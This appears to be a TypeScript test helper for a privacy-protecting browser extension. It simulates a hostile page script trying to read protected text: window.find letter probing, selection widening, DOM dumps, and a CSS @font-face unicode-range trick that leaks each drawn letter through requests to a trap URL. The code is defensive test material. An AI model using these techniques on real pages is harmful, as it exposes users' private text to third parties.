/**
 * What a script of the page can try in order to read Kring's words (quality.md 2.1). The function runs in the page's own world, in Chromium and
 * Firefox; it returns everything it could get hold of, so that a test can look for the secret in it.
 */
export interface Loot {
  /** Letters of the secret that `window.find` says are on the page, beside those the page has itself. */
  found: string[];
  /** What selections gave: from a find, and after select-all. */
  selected: string[];
  /** What the document says of itself. */
  texts: string[];
  /** Shadow roots that were reachable. */
  roots: number;
}

export function attackPage(guesses: string[]): Loot {
  const selection = getSelection();
  const selected: string[] = [];
  const find = (window as unknown as { find(text: string, caseSensitive: boolean, backwards: boolean, wrap: boolean): boolean }).find.bind(
    window,
  );

  const found = guesses.filter((guess) => {
    selection?.removeAllRanges();
    const isThere = find(guess, false, false, true);
    if (isThere && selection) {
      for (const step of ['line', 'paragraph', 'documentboundary'] as const) {
        for (const direction of ['backward', 'forward'] as const) {
          selection.modify('extend', direction, step);
          selected.push(selection.toString());
        }
      }
    }
    return isThere;
  });

  selection?.removeAllRanges();
  document.execCommand('selectAll');
  selected.push(selection?.toString() ?? '');
  selection?.removeAllRanges();

  const everything = [...document.querySelectorAll('*')];
  return {
    found,
    selected,
    texts: [
      document.documentElement.outerHTML,
      document.body.innerText,
      document.documentElement.textContent ?? '',
      ...everything.map((element) => element.getAttributeNames().join(' ')),
    ],
    roots: everything.filter((element) => element.shadowRoot !== null).length,
  };
}

/** Fonts that load only when a given letter is drawn with them: the requests would spell the letters. */
export function plantLetterFonts(letters: string): void {
  const faces = [...letters].map((letter) => {
    const code = letter.codePointAt(0)?.toString(16);
    return `@font-face { font-family: 'trap'; src: url('https://www.linkedin.com/trap/${code}'); unicode-range: U+${code}; }`;
  });
  const style = document.createElement('style');
  style.textContent = `${faces.join('\n')} html, body, div, span, button { font-family: 'trap', sans-serif !important; }`;
  document.head.append(style);
}
